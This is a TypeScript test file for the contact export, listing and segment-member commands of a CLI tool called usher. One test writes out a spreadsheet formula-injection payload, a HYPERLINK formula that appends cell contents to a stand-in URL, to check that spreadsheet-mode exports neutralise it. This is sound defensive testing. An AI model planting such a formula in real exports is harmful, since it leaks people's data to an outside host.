/** `usher contact list`, `usher contact export` and `usher segment members`. */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import type { ListedContact } from '../../src/administration/contact/list-contacts.ts';
import { mustRunCommand, runCommand } from '../launch/run-command.ts';
import { makeDataFolder } from '../launch/run-usher.ts';

const count = 1_200;

async function inPlace(context: TestContext) {
  const data = makeDataFolder(context);
  const path = join(data, '..', 'people.csv');
  const rows = Array.from({ length: count }, (_, n) => `p${n}@x.com,"Ann, ""${n}""",${n}`);
  writeFileSync(path, ['email,name,orders', ...rows].join('\n'));
  await mustRunCommand(data, ['import', path, '--dataset', 'crm', '--yes']);
  const run = (...args: string[]) => mustRunCommand(data, args);
  await run('segment', 'create', 'Few', '--rule', 'orders >= 1190');
  await run('computed-field', 'create', 'double', '--rule', 'orders * 2');
  return { data, path, run };
}

test('an export holds every contact once, in a file that only its owner can read', async (context) => {
  const { data, run } = await inPlace(context);
  const out = join(data, '..', 'out.csv');
  await run('contact', 'export', '--out', out, '--identity', 'email', '--fields', 'name,double');
  const lines = readFileSync(out, 'utf8').trimEnd().split('\r\n');
  assert.equal(lines[0], 'contact_id,identity:email,name,double');
  assert.equal(lines.length, count + 1);
  assert.equal(new Set(lines.map((line) => line.slice(0, 36))).size, count + 1);
  const one = lines.find((line) => line.includes(',p7@x.com,')) ?? '';
  assert.match(one, /^[0-9a-f-]{36},p7@x\.com,"Ann, ""7""",14$/);
  assert.equal(statSync(out).mode & 0o777, 0o600);
  assert.deepEqual(
    readdirSync(dirname(out)).filter((name) => name.endsWith('.partial')),
    [],
  );
});

test('an export for a spreadsheet has no cell that it would run', async (context) => {
  const data = makeDataFolder(context);
  const path = join(data, '..', 'form.csv');
  const formula = '=HYPERLINK("http://x/?"&A1)';
  writeFileSync(path, `email,name\na@x.com,"${formula.replaceAll('"', '""')}"\n`);
  await mustRunCommand(data, ['import', path, '--dataset', 'crm', '--yes']);
  const choice = ['contact', 'export', '--identity', 'email', '--fields', 'name'];
  const cellOf = async (...more: string[]) =>
    (await mustRunCommand(data, [...choice, ...more])).split(/\r?\n/)[1]?.split('@x.com,')[1];
  const quoted = formula.replaceAll('"', '""');
  assert.equal(await cellOf(), `"${quoted}"`);
  assert.equal(await cellOf('--spreadsheet'), `"'${quoted}"`);
});

test('fields named like what every contact has stand beside it', async (context) => {
  const { run } = await inPlace(context);
  const fields = ['contact_id', 'contact', 'identities'];
  for (const name of fields) await run('computed-field', 'create', name, '--rule', 'orders + 1');
  const choice = ['--fields', fields.join(), '--segment', 'Few', '--identity', 'email'];
  const [head, row = ''] = (await run('contact', 'export', ...choice)).split(/\r?\n/);
  assert.equal(head, 'identity:id,identity:email,contact_id,contact,identities');
  assert.match(row, /^[0-9a-f-]{36},p(\d+)@x\.com,(\d+),\2,\2$/);
  const [title, line = ''] = (await run('contact', 'list', ...choice)).split('\n');
  assert.match(title ?? '', /^CONTACT ID +ALL IDENTITIES +CONTACT_ID +CONTACT +IDENTITIES$/);
  assert.match(line, /^[0-9a-f-]{36} +email:p\d+@x\.com +(\d+) +\1 +\1$/);
  for (const name of ['name', 'double']) await run('field', 'set', name, '--content', 'off');
  const sample = await run('segment', 'preview', '--rule', 'contact >= 1190');
  assert.match(sample, /^CONTACT ID +.* CONTACT +IDENTITIES$/m);
});

test('an export of a segment as NDJSON has its members only', async (context) => {
  const { run } = await inPlace(context);
  const text = await run('contact', 'export', '--ndjson', '--segment', 'Few', '--fields', 'orders');
  const contacts = text.split('\n').map((line) => JSON.parse(line) as ListedContact);
  const orders = contacts.map(({ values }) => values['orders'] as number);
  assert.deepEqual(
    orders.sort((one, other) => one - other),
    Array.from({ length: 10 }, (_, n) => 1_190 + n),
  );
  assert.deepEqual(contacts[0]?.identities[0]?.type, 'email');
});

test('members are listed up to the limit, which is said', async (context) => {
  const { data, run } = await inPlace(context);
  const shown = await run('segment', 'members', 'Few', '--fields', 'orders');
  assert.equal(shown.split('\n').length, 11);
  assert.match(shown, /email:p1195@x\.com +1195/);
  const some = await runCommand(data, ['contact', 'list', '--limit', '3', '--json']);
  assert.equal((JSON.parse(some.stdout) as unknown[]).length, 3);
  assert.match(some.stderr, /There are more contacts than these 3/);
});

test('memberships are listed and exported, and computed as of one time', async (context) => {
  const { data, run } = await inPlace(context);
  const flow = ['--segment', 'Few', '--status', 'live', '--id', '7'];
  await run('flow', 'create', 'Spring', ...flow);
  const fields = 'orders,segment_membership,flow_variant_membership';
  const hidden = await runCommand(data, ['contact', 'list', '--fields', fields]);
  assert.equal(hidden.code, 2);
  assert.match(hidden.stderr, /usher field set segment_membership --content on/);
  await run('field', 'set', 'segment_membership', '--content', 'on');
  const text = await run('contact', 'export', '--ndjson', '--fields', fields);
  const contacts = text.split('\n').map((line) => JSON.parse(line) as ListedContact);
  assert.equal(contacts.length, count);
  for (const { values } of contacts) {
    const isFew = (values['orders'] as number) >= 1_190;
    assert.deepEqual(values['segment_membership'], isFew ? [1] : []);
    assert.deepEqual(values['flow_variant_membership'], isFew ? ['7'] : []);
  }
  const csv = await run('contact', 'export', '--segment', 'Few', '--fields', fields);
  assert.match(csv, /,1195,\[1\],"\[""7""\]"\r\n/);
});

test('unknown names are answered with the nearest', async (context) => {
  const { data } = await inPlace(context);
  const fail = (...args: string[]) => runCommand(data, args);
  const field = await fail('contact', 'list', '--fields', 'nam');
  assert.equal(field.code, 2);
  assert.match(field.stderr, /There is no content field nam to list\. Did you mean name\?/);
  assert.match((await fail('contact', 'list', '--identity', 'emil')).stderr, /Did you mean email/);
  assert.equal((await fail('segment', 'members', 'Nobody')).code, 3);
});
